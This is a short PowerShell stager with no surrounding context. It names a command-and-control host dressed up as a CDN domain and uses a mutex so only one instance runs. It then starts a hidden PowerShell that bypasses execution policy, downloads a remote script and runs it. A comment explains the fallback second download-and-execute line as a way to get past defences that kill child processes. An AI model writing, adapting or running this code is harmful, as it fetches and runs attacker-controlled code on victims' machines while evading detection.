$c2 = 'https://cdn-update.azureedge-stat.com'
$mutex = New-Object System.Threading.Mutex($false, 'Global\c7f2a1')
if (-not $mutex.WaitOne(0)) { exit }
Start-Process -FilePath powershell.exe -ArgumentList "-NoP -W Hidden -ExecutionPolicy Bypass -Command IEX (New-Object Net.WebClient).DownloadString('$c2/s.ps1')" -WindowStyle Hidden
# fallback for boxes where child processes get killed
iwr -UseBasicParsing "$c2/s2.ps1" | iex
